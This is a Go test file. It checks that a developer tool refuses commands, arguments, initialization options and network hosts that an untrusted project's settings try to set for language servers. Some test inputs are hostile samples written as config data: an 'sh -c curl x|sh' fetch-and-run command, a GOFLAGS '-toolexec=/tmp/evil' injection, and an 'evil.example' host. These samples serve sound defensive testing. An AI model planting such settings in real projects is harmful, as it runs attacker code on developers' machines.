package config

import (
	"encoding/json"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/bridle-dev/bridle/internal/testfs"
	"github.com/bridle-dev/bridle/sandbox/confine"
)

// TestLSPServersFromSettings: the user's settings may add and change
// servers; a project's may only turn them off, and a server whose
// program, arguments, initialization options (which name programs too)
// or network it tries to choose does not run there, unless the user
// trusts the project.
func TestLSPServersFromSettings(t *testing.T) {
	type want struct {
		commands []string
		args     []string
		files    []string
		init     string
		off      string // a part of Off; "" means it may run
		refused  bool
	}
	tests := []struct {
		name    string
		user    string // $ROOT is the project
		project string
		servers map[string]want
		warn    []string
		err     string
	}{
		{
			name: "defaults",
			servers: map[string]want{
				"go":     {commands: []string{"gopls"}, files: []string{"*.go"}},
				"python": {commands: []string{"pyright-langserver", "basedpyright-langserver"}, args: []string{"--stdio"}},
			},
		},
		{
			name: "the user changes a server and adds one",
			user: `{"lsp":{"servers":{"go":{"command":"/opt/gopls","args":["-remote=auto"]},"zig":{"command":"zls","files":["*.zig"]}}}}`,
			servers: map[string]want{
				"go":  {commands: []string{"/opt/gopls"}, args: []string{"-remote=auto"}, files: []string{"*.go"}},
				"zig": {commands: []string{"zls"}, files: []string{"*.zig"}},
			},
		},
		{
			name:    "a project turns a server off",
			project: `{"lsp":{"servers":{"go":{"enabled":false}}}}`,
			servers: map[string]want{"go": {commands: []string{"gopls"}, off: "turned off by lsp.servers.go.enabled"}},
		},
		{
			name:    "a project turns every server off",
			project: `{"lsp":{"enabled":false}}`,
			servers: map[string]want{"rust": {commands: []string{"rust-analyzer"}, off: `"enabled": false`}},
		},
		{
			name:    "a project cannot turn on a server the user turned off",
			user:    `{"lsp":{"servers":{"go":{"enabled":false}}}}`,
			project: `{"lsp":{"servers":{"go":{"enabled":true}}}}`,
			servers: map[string]want{"go": {off: "turned off"}},
			warn:    []string{`"lsp.servers.go.enabled" is ignored: a project's settings may only turn a server off`},
		},
		{
			name:    "a project's initialization options are refused: they name programs too",
			user:    `{"lsp":{"servers":{"go":{"initialization_options":{"staticcheck":true}}}}}`,
			project: `{"lsp":{"servers":{"go":{"initialization_options":{"build.env":{"GOFLAGS":"-toolexec=/tmp/evil"}}}}}}`,
			servers: map[string]want{"go": {init: `{"staticcheck":true}`, off: "sets lsp.servers.go.initialization_options", refused: true}},
		},
		{
			name:    "a trusted project's initialization options merge over the user's",
			user:    `{"trusted_projects":["$ROOT"],"lsp":{"servers":{"go":{"initialization_options":{"staticcheck":true,"gofumpt":true}}}}}`,
			project: `{"lsp":{"servers":{"go":{"initialization_options":{"gofumpt":false}}}}}`,
			servers: map[string]want{"go": {commands: []string{"gopls"}, init: `{"gofumpt":false,"staticcheck":true}`}},
		},
		{
			name:    "a project naming a command is refused",
			project: `{"lsp":{"servers":{"go":{"command":"/tmp/evil"},"python":{"initialization_options":{"x":1}}}}}`,
			servers: map[string]want{
				"go":     {commands: []string{"gopls"}, off: "sets lsp.servers.go.command", refused: true},
				"python": {off: "sets lsp.servers.python.initialization_options", refused: true},
			},
		},
		{
			name:    "a project's arguments and hosts are refused too, and the refusal says how to trust",
			project: `{"lsp":{"servers":{"rust":{"args":["--evil"],"allow_hosts":["evil.example"]}}}}`,
			servers: map[string]want{"rust": {off: `lsp.servers.rust.allow_hosts, lsp.servers.rust.args`, refused: true}},
		},
		{
			name:    "a project's new language with a command is refused",
			project: `{"lsp":{"servers":{"evil":{"command":"sh","args":["-c","curl x|sh"],"files":["*.go"]}}}}`,
			servers: map[string]want{"evil": {off: "sets lsp.servers.evil.args, lsp.servers.evil.command", refused: true}},
			warn:    []string{`"lsp.servers.evil.files" is ignored`},
		},
		{
			name:    "a project's files, root markers, limits and waits are ignored",
			project: `{"lsp":{"wait_seconds":60,"servers":{"go":{"files":["*"],"root_markers":["x"],"memory_mb":-1}}}}`,
			servers: map[string]want{"go": {commands: []string{"gopls"}, files: []string{"*.go"}}},
			warn: []string{`"lsp.wait_seconds" is ignored`, `"lsp.servers.go.files" is ignored`, `"lsp.servers.go.memory_mb" is ignored`,
				`"lsp.servers.go.root_markers" is ignored`},
		},
		{
			name:    "a project's null does not clear the user's section",
			user:    `{"lsp":{"enabled":false}}`,
			project: `{"lsp":null}`,
			servers: map[string]want{"go": {off: `"enabled": false`}},
			warn:    []string{`"lsp" is ignored: a project's settings may not clear what your own settings file sets`},
		},
		{
			name:    "a project's null does not clear the user's servers",
			user:    `{"lsp":{"servers":{"go":{"command":"/opt/gopls","args":["-remote=auto"]}}}}`,
			project: `{"lsp":{"servers":null}}`,
			servers: map[string]want{"go": {commands: []string{"/opt/gopls"}, args: []string{"-remote=auto"}}},
			warn:    []string{`"lsp.servers" is ignored: a project's settings may not clear`},
		},
		{
			name:    "a project's null does not clear the user's server",
			user:    `{"lsp":{"servers":{"go":{"enabled":false}}}}`,
			project: `{"lsp":{"servers":{"go":null}}}`,
			servers: map[string]want{"go": {off: "turned off"}},
			warn:    []string{`"lsp.servers.go" is ignored: a project's settings may not clear`},
		},
		{
			name:    "a trusted project may name a command",
			user:    `{"trusted_projects":["$ROOT"]}`,
			project: `{"lsp":{"servers":{"go":{"command":"/opt/team/gopls"}}}}`,
			servers: map[string]want{"go": {commands: []string{"/opt/team/gopls"}}},
		},
		{
			name: "a misspelt key is an error naming it",
			user: `{"lsp":{"servers":{"go":{"comand":"gopls"}}}}`,
			err:  `unknown key "comand" in servers.go`,
		},
		{
			name:    "a server without files is off",
			user:    `{"lsp":{"servers":{"zig":{"command":"zls"}}}}`,
			servers: map[string]want{"zig": {commands: []string{"zls"}, off: "lsp.servers.zig.files is not set"}},
		},
		{
			name: "a path in a file pattern is an error",
			user: `{"lsp":{"servers":{"zig":{"command":"zls","files":["src/*.zig"]}}}}`,
			err:  `"src/*.zig" is not a file name pattern`,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			userPath, root := filepath.Join(dir, "user.json"), filepath.Join(dir, "project")
			expand := strings.NewReplacer("$ROOT", root).Replace
			if tt.user != "" {
				testfs.Write(t, userPath, expand(tt.user))
			}
			if tt.project != "" {
				testfs.Write(t, ProjectPath(root), tt.project)
			}
			s, err := Load(userPath, root, confine.ProjectFiles{}, Pins{Dir: t.TempDir()})
			if err != nil {
				t.Fatal(err)
			}
			c := &Config{Cwd: root, Settings: s}
			servers, err := c.Servers()
			if tt.err != "" {
				if err == nil || !strings.Contains(err.Error(), tt.err) {
					t.Fatalf("error %v, want one saying %q", err, tt.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			byLang := map[string]Server{}
			for _, sv := range servers {
				byLang[sv.Language] = sv
			}
			for lang, w := range tt.servers {
				got, ok := byLang[lang]
				if !ok {
					t.Fatalf("no %s server in %+v", lang, servers)
				}
				if w.commands != nil && !reflect.DeepEqual(got.Commands, w.commands) {
					t.Errorf("%s: commands %q, want %q", lang, got.Commands, w.commands)
				}
				if w.args != nil && !reflect.DeepEqual(got.Args, w.args) {
					t.Errorf("%s: args %q, want %q", lang, got.Args, w.args)
				}
				if w.files != nil && !reflect.DeepEqual(got.Files, w.files) {
					t.Errorf("%s: files %q, want %q", lang, got.Files, w.files)
				}
				if w.init != "" {
					var a, b any
					json.Unmarshal(got.InitOptions, &a)
					json.Unmarshal([]byte(w.init), &b)
					if !reflect.DeepEqual(a, b) {
						t.Errorf("%s: initialization options %s, want %s", lang, got.InitOptions, w.init)
					}
				}
				switch {
				case w.off == "" && got.Off != "":
					t.Errorf("%s is off: %s", lang, got.Off)
				case !strings.Contains(got.Off, w.off):
					t.Errorf("%s: off %q, want it to say %q", lang, got.Off, w.off)
				}
				if got.Refused != w.refused {
					t.Errorf("%s: refused %v, want %v (%s)", lang, got.Refused, w.refused, got.Off)
				}
				if w.refused {
					for _, say := range []string{ProjectPath(root), userPath, `"trusted_projects": ["` + root + `"]`} {
						if !strings.Contains(got.Off, say) {
							t.Errorf("%s: the refusal does not say %q: %s", lang, say, got.Off)
						}
					}
				}
			}
			if len(s.Warnings) != len(tt.warn) {
				t.Fatalf("warnings = %q, want %q", s.Warnings, tt.warn)
			}
			for i, w := range tt.warn {
				if !strings.Contains(s.Warnings[i], w) {
					t.Errorf("warning %q does not say %q", s.Warnings[i], w)
				}
			}
		})
	}
}
